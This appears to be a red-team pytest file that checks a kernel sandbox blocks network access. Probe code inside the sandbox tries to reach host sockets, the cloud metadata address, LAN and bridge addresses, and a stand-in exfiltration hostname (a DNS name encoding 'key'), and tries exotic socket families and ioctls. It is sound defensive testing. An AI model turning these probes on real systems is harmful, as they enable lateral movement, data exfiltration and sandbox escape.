"""No network: nothing of the host's or of the world's answers, and nothing that is sent is heard."""

from __future__ import annotations

import contextlib
import socket
import subprocess
from pathlib import Path

import pytest

from kernel_sandbox import Session
from tests.redteam.canaries import Canaries
from tests.redteam.cells import ECONNREFUSED, ENETUNREACH, ENOENT, EPERM, ask, attack
from tests.redteam.test_privileges import IN_CHILD, numbers

CALL = """
def call(family, address):
    "What a listener says, or the number of the error."
    with socket.socket(family) as client:
        client.settimeout(3)
        try:
            client.connect(address)
            client.send(b"from the sandbox")
            return client.recv(100).decode()
        except OSError as exc:
            return exc.errno or -1
"""


@attack("Lateral")
@pytest.mark.parametrize("listener", ["tcp", "tcp6"])
def test_loopback_of_the_host_is_another(target: Session, canaries: Canaries, listener: str) -> None:
    family = socket.AF_INET6 if listener == "tcp6" else socket.AF_INET
    address = canaries.tcp.get(listener, ("::1", 9))
    said = ask(target, f"{CALL}\nanswer(call(FAMILY, tuple(ADDRESS)))", FAMILY=int(family), ADDRESS=address)
    assert said in (ECONNREFUSED, ENETUNREACH, 99)  # EADDRNOTAVAIL: no ::1 inside
    assert canaries.take_heard() == []


@attack("Lateral")
def test_abstract_socket_of_the_host_is_not_reached(target: Session, canaries: Canaries) -> None:
    assert ask(target, f"{CALL}\nanswer(call(socket.AF_UNIX, chr(0) + NAME))", NAME=canaries.abstract) == ECONNREFUSED
    assert canaries.take_heard() == []


@attack("Lateral")
def test_unix_socket_of_the_host_is_not_reached(target: Session, canaries: Canaries) -> None:
    assert ask(target, f"{CALL}\nanswer(call(socket.AF_UNIX, PATH))", PATH=canaries.unix) == ENOENT
    assert canaries.take_heard() == []


@attack("Exfil")
def test_datagrams_do_not_arrive(target: Session, canaries: Canaries) -> None:
    send = """
def send():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender: sender.sendto(b"from the sandbox", tuple(ADDRESS))
answer(error(send))
"""
    assert ask(target, send, ADDRESS=canaries.udp) == EPERM
    assert canaries.take_heard() == []


def own_addresses() -> list[str]:
    """The addresses of the host that its neighbours use."""
    told = ""
    with contextlib.suppress(OSError):
        told = subprocess.run(["hostname", "-I"], capture_output=True, text=True, check=False).stdout
    return told.split()


PLACES = {
    "the metadata service": "169.254.169.254",
    "the world": "192.0.2.1",
    "the LAN": "10.0.0.1",
    "the engine's bridge": "172.17.0.1",
    "multicast": "224.0.0.251",
    "IPv6": "2001:db8::1",
    "link-local IPv6": "fe80::1",
}


@attack("Exfil")
@pytest.mark.parametrize("place", PLACES)
def test_address_is_unreachable(target: Session, place: str) -> None:
    address = PLACES[place]
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    assert ask(target, f"{CALL}\nanswer(call(FAMILY, (ADDRESS, 80)))", FAMILY=int(family), ADDRESS=address) in (
        ENETUNREACH,
        22,  # EINVAL: a link-local address needs an interface
        99,  # EADDRNOTAVAIL: no IPv6 inside
    )


@attack("Lateral")
def test_addresses_of_the_host_are_unreachable(target: Session) -> None:
    for address in own_addresses():
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        said = ask(target, f"{CALL}\nanswer(call(FAMILY, (ADDRESS, 22)))", FAMILY=int(family), ADDRESS=address)
        assert said in (ENETUNREACH, 99)  # EADDRNOTAVAIL


@attack("Exfil")
def test_names_are_not_looked_up(target: Session) -> None:
    look_up = """
try: answer(socket.getaddrinfo(HOST, 80)[0][4])
except OSError: answer([])
"""
    assert ask(target, look_up, HOST="a2V5.exfil.example.com") == []


@attack("Exfil")
def test_there_is_no_interface_but_loopback(target: Session) -> None:
    named = "answer([line.split(':')[0].strip() for line in open('/proc/net/dev') if ':' in line])"
    assert ask(target, named) == ["lo"]
    assert ask(target, "answer(open('/proc/net/route').read().splitlines()[1:])") == []


FAMILIES = {
    "vsock": (40, 1, 0),
    "packet": (17, 3, 768),
    "raw": (2, 3, 1),
    "alg": (38, 5, 0),
    "xdp": (44, 3, 0),
    "key": (15, 3, 2),
    "can": (29, 3, 1),
    "bluetooth": (31, 5, 0),
    "tipc": (30, 1, 0),
    "rds": (21, 5, 0),
    "smc": (43, 1, 0),
    "qrtr": (42, 2, 0),
    "kernel events": (16, 3, 15),
    "audit": (16, 3, 9),
    "netfilter": (16, 3, 12),
    "connector": (16, 3, 11),
    "routing": (16, 3, 0),
    "UDP": (2, 2, 0),
    "UDP over IPv6": (10, 2, 17),
    "UDP-Lite": (2, 2, 136),
    "ping": (2, 2, 1),
    "MPTCP": (2, 1, 262),
    "SCTP": (2, 1, 132),
    "SMC": (2, 1, 256),
    "a type with flags": (2, 2 | socket.SOCK_NONBLOCK, 0),
    "a family with high bits": (2 | 1 << 32, 2, 0),
}
EOPNOTSUPP = 95
"""What libraries that look for interfaces over netlink understand."""


@attack("Escape")
@pytest.mark.parametrize("family", FAMILIES)
def test_socket_family_is_refused(target: Session, family: str) -> None:
    made = ask(target, f"{IN_CHILD}\nanswer(call(SOCKET, *SHAPE))", SHAPE=FAMILIES[family], SOCKET=numbers()["socket"])
    assert made == (EOPNOTSUPP if FAMILIES[family][0] == 16 else EPERM)


@attack("Escape")
@pytest.mark.parametrize("family", [2, 10, 16, 30, 38, 40, 2 | 1 << 32])
def test_socket_pair_of_another_family_is_refused(target: Session, family: int) -> None:
    """TIPC, for one, makes pairs; the family is judged before the kernel looks whether it has one."""
    pair = f"{IN_CHILD}\npair = ctypes.create_string_buffer(8)\n"
    pair += "answer(call(NUMBER, FAMILY, 1, 0, ctypes.addressof(pair)))"
    assert ask(target, pair, NUMBER=numbers()["socketpair"], FAMILY=family) == EPERM


@attack("Exfil")
def test_network_cannot_be_made(target: Session) -> None:
    """No interface, no route, no address: the kernel is asked on a socket, and over netlink not at all."""
    order = """
import fcntl
orders = {"address": 0x8916, "flags": 0x8914, "route": 0x890B, "bridge": 0x89A0, "vlan": 0x8983, "neighbour": 0x8955}
with socket.socket() as asked:
    answer({name: error(fcntl.ioctl, asked, number, b"lo".ljust(256, b"\\0")) for name, number in orders.items()})
"""
    assert set(ask(target, order).values()) == {EPERM}


@attack("Escape")
def test_kernel_of_the_host_loads_no_modules(target: Session) -> None:
    """Some orders to a socket have it load one before it looks who asks: 8021q, garp and mrp were loaded for a cell."""
    before = modules()
    order = """
import fcntl
answer([error(fcntl.ioctl, socket.socket(), NUMBER, bytes(256)) for NUMBER in ORDERS])
"""
    orders = [0x8940, 0x8941, 0x8980, 0x8981, 0x8982, 0x8983]  # bridge, dlci, 8021q (linux/sockios.h)
    assert set(ask(target, order, ORDERS=orders)) == {EPERM}
    assert modules() <= before


def modules() -> set[str]:
    """Name what the host's kernel has loaded; nothing where it was built without modules."""
    listed = Path("/proc/modules")
    return {line.split()[0] for line in listed.read_text().splitlines()} if listed.exists() else set()
